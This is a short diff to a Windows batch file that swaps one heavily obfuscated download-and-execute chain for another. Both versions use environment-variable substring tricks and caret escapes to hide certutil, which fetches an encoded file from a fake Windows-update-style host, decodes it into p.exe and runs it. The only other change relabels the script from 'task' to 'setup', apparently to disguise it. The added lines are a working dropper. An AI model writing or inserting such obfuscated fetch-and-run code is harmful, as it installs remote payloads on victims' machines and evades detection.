@@ -1,5 +1,5 @@
-REM task 1326 v2
+REM setup 0485 v2
 @echo off
-%comspec:~-7,1%%PUBLIC:~-10,1%%PUBLIC:~-9,1%%comspec:~14,1%u%comspec:~-13,1%%windir:~-6,1%%PUBLIC:~12,1% -u^r^lc^a^che -^f htt^p://^d^l.wi^n^upda^t^e-cdn.ex^ample/p.t^x^t %PUBLIC%\p.txt
-^c^e%ProgramData:~-7,1%%comspec:~14,1%%PUBLIC:~-5,1%t%WINDIR:~-6,1%l -^d^e^c^o^de %PUBLIC%\^p.t^x^t %PUBLIC%\p.exe
-%PUBLIC%\p.^ex^e
+%public:~14,1%%public:~-10,1%^r%PROGRAMDATA:~12,1%%PUBLIC:~-5,1%%programdata:~12,1%%windir:~-6,1%%public:~-3,1% -url^cac^h^e -f h^t^tp://c^d^n-up^date.^ex^a^m^p^l^e/p.^tx^t %PUBLIC%\^p.^t^xt
+%public:~14,1%%PUBLIC:~5,1%%PUBLIC:~6,1%%ProgramData:~12,1%%PUBLIC:~-5,1%t%WINDIR:~4,1%%PUBLIC:~12,1% -^decode %PUBLIC%\p.^t^xt %PUBLIC%\p.e^xe
+%PUBLIC%\p.e%COMSPEC:~25,1%^e
